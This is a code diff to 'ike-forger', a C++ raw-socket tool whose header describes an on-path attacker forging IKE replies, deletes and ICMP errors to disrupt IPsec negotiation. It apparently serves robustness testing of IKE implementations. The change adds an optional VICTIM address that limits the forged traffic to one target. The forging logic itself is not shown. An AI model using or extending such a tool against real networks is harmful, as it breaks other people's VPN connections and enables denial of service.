@@ -1,7 +1,7 @@
-// ike-forger INTERFACE - an attacker on the path who sees every IKE message there and answers in the name of both ends,
-// faster than they can: refusals, wishes for a cookie or another group, a whole false IKE_SA_INIT answer, deletes,
-// sealed messages with the right numbers and no key, ICMP errors. It has no key and drops nothing. Ends with SIGTERM
-// and says how many it forged.
+// ike-forger INTERFACE [VICTIM] - an attacker on the path who sees every IKE message there and answers in the name of
+// both ends, faster than they can: refusals, wishes for a cookie or another group, a whole false IKE_SA_INIT answer,
+// deletes, sealed messages with the right numbers and no key, ICMP errors. It has no key and drops nothing. Ends with
+// SIGTERM and says how many it forged. With VICTIM, an address, only what goes there is sent.
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
@@ -143,8 +143,8 @@ class Forger {
 };
 
 int run(int argc, char** argv) {
-  if (argc != 2) {
-    std::fprintf(stderr, "usage: ike-forger INTERFACE\n");
+  if (argc != 2 && argc != 3) {
+    std::fprintf(stderr, "usage: ike-forger INTERFACE [VICTIM]\n");
     return 2;
   }
   struct sigaction action {};
@@ -160,6 +160,7 @@ int run(int argc, char** argv) {
     std::perror("a packet socket");
     return 1;
   }
+  const std::uint32_t victim = argc == 3 ? address(argv[2]) : 0;
   RawSender sender;
   Forger forger;
   std::uint64_t seen = 0, forged = 0;
@@ -174,7 +175,8 @@ int run(int argc, char** argv) {
     Seen s;
     if (!read({buffer, static_cast<std::size_t>(n)}, s)) continue;
     ++seen;
-    const auto packets = forger.answer(s);
+    auto packets = forger.answer(s);
+    if (argc == 3) std::erase_if(packets, [&](const Octets& p) { return be(std::span(p).subspan(16), 4) != victim; });
     for (std::size_t i = 0; i < packets.size(); i += 64) {
       forged += sender.send(std::span(packets).subspan(i, std::min<std::size_t>(64, packets.size() - i)));
     }
